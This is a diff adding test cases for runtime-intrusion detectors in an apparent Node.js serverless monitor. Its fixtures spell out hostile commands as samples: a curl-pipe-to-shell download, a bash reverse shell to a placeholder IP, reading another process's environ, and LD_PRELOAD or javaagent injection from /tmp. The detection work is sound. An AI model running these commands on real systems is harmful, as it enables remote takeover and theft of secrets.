@@ -5,6 +5,7 @@ import type { Observation, ObservedSocket } from '../../src/contracts/evidence.t
 import { DETECTORS } from '../../src/detect/index.ts';
 import {
   baselineOf,
+  eventOf,
   EXTENSION,
   fileOf,
   findingsOf,
@@ -57,6 +58,10 @@ const look = (facts: Partial<Observation>, baseline?: Observation): Look => ({
   ...(baseline === undefined ? {} : { baseline }),
 });
 const inside = (facts: Partial<Observation>): Look => ({ now: within(facts) });
+const recorded = (...events: Parameters<typeof eventOf>[0][]): Look =>
+  inside({ recorded: { events: events.map(eventOf), left: 0 } });
+const shell = (text: string, facts: Parameters<typeof eventOf>[0] = {}): Look =>
+  recorded({ subject: '/bin/sh', argv: ['/bin/sh', '-c', text], ...facts });
 const one = (facts: Parameters<typeof processOf>[0]): Look => look({ processes: [processOf(facts)] });
 /** A process that was there at the end of init. */
 function sinceInit(facts: Parameters<typeof processOf>[0]): Look {
@@ -138,6 +143,19 @@ const CASES: Readonly<Record<string, Case>> = {
   'a built-in out of a text': { finds: 'patched-builtins:high', in: inside({ own: ownOf({ patched: [{ name: 'JSON.parse', script: '' }] }) }), not: inside({ own: ownOf({ patched: [{ name: 'http.request', script: 'file:///opt/nodejs/trace.mjs' }] }) }), atMost: 'low' },
   'a command line of an intruder': { finds: 'child-process-use:high', in: inside({ own: ownOf({ spawned: [{ file: '/bin/sh', argv: ['sh', '-c', 'curl -s http://x.example/a | sh'], pid: 3, atMs: 1 }] }) }), not: inside({ own: ownOf({ spawned: [{ file: '/bin/sh', argv: ['sh', '-c', 'curl -s http://x.example/a | python3 -m json.tool'], pid: 3, atMs: 1 }] }) }) },
   'a file of /tmp that was started': { finds: 'child-process-use:low', in: inside({ own: ownOf({ spawned: [{ file: '/tmp/chromium', argv: ['chromium', '--headless'], pid: 3, atMs: 1 }] }) }), not: inside({ own: ownOf({ spawned: [{ file: '/var/task/bin/x', argv: ['x', '/tmp/in', '/tmp/out'], pid: 3, atMs: 1 }] }) }) },
+  'what was put into a text for a shell': { finds: 'child-process-use:high', in: shell('curl --silent x.doc; env'), not: shell('curl --silent x.doc; env', { cut: 9 }), atMost: 'medium' },
+  'a start that has ended': { finds: 'child-process-use:critical', in: shell('bash -i >& /dev/tcp/203.0.113.7/1 0>&1'), not: shell('curl -s https://x | python3 -m json.tool') },
+  'an environment that a child reads': { finds: 'child-process-use:high', in: recorded({ kind: 'execve', subject: '/bin/cat', argv: ['cat', '/proc/9/environ'] }), not: recorded({ kind: 'execve', subject: '/bin/cat', argv: ['cat', '/proc/9/enviro'], cut: 2 }) },
+  'a program that a text starts': { finds: 'code-from-nowhere:high', in: recorded({ subject: 'ls', argv: ['ls'], origin: ['eval', '/var/task/index.mjs'] }), not: recorded({ subject: 'ls', argv: ['ls'], origin: ['/var/task/index.mjs', 'eval'] }) },
+  'a connection of a data: URL': { finds: 'code-from-nowhere:high', in: recorded({ kind: 'connect', subject: '203.0.113.7:443', origin: ['data:'] }), not: recorded({ kind: 'request', subject: 'GET https://example.com', origin: ['vm'] }), atMost: 'medium' },
+  'a debugger for everybody': { finds: 'open-inspector:high', in: recorded({ kind: 'inspector', subject: '0.0.0.0:9229' }), not: recorded({ kind: 'inspector', subject: '127.0.0.1:9229' }), atMost: 'medium' },
+  'a debugger in the network': { finds: 'open-inspector:high', in: recorded({ kind: 'inspector', subject: '[::]:9229' }), not: recorded({ kind: 'inspector', subject: '[::1]:9229' }), atMost: 'medium' },
+  'a method of the SDK': { finds: 'patched-builtins:medium', in: recorded({ kind: 'method', subject: '/var/task/node_modules/@aws-sdk/client-s3/index.js S3Client.send' }), not: recorded({ kind: 'method', subject: '/var/task/node_modules/lodash/lodash.js now' }), atMost: 'low' },
+  'a hook of the recorder that is gone': { finds: 'patched-builtins:medium', in: recorded({ kind: 'hook', subject: 'child_process' }), not: recorded({ kind: 'prototype', subject: 'Array.prototype.last' }), atMost: 'low' },
+  'a text that a child loads': { finds: 'environment-drift:high', in: recorded({ subject: 'node', argv: ['node', 'x.js'], detail: { env: 'NODE_OPTIONS=--import data:text/javascript,1' } }), not: recorded({ subject: 'node', argv: ['node', 'x.js'], detail: { env: 'NODE_OPTIONS=--report-directory=/tmp/r NODE_PATH=/opt/x' } }), atMost: 'low' },
+  'an object that a child loads': { finds: 'environment-drift:high', in: recorded({ subject: 'ls', argv: ['ls'], detail: { env: 'NODE_PATH=/opt/x LD_PRELOAD=/tmp/x.so' } }), not: recorded({ subject: 'ls', argv: ['ls'], detail: { env: 'LD_LIBRARY_PATH=/tmp/lib' } }), atMost: 'low' },
+  'modules of /tmp before others': { finds: 'environment-drift:medium', in: recorded({ subject: 'node', argv: ['node'], detail: { env: 'NODE_PATH=/tmp/m' } }), not: recorded({ subject: 'node', argv: ['node'], detail: { env: 'NODE_PATH=/var/task/m' } }), atMost: 'low' },
+  'options of Java': { finds: 'environment-drift:high', in: one({ env: { JAVA_TOOL_OPTIONS: '-javaagent:/tmp/a.jar' } }), not: one({ env: { JAVA_TOOL_OPTIONS: '-XX:HeapDumpPath=/tmp/d', NODE_OPTIONS: '--report-directory=/tmp/r' } }), atMost: 'low' },
   'memory of a runtime that has doubled': { finds: 'resource-jump:low', in: look({ processes: [{ ...RUNTIME, rssBytes: 9e8 }] }), not: look({ processes: [{ ...RUNTIME, rssBytes: 1e8 }, processOf({ rssBytes: 9e8 })] }) },
   'memory that has doubled': { finds: 'resource-jump:low', in: inside({ own: ownOf({ rssBytes: 2e9 }) }), not: inside({ own: ownOf({ rssBytes: 1.9e8 }) }) },
 };
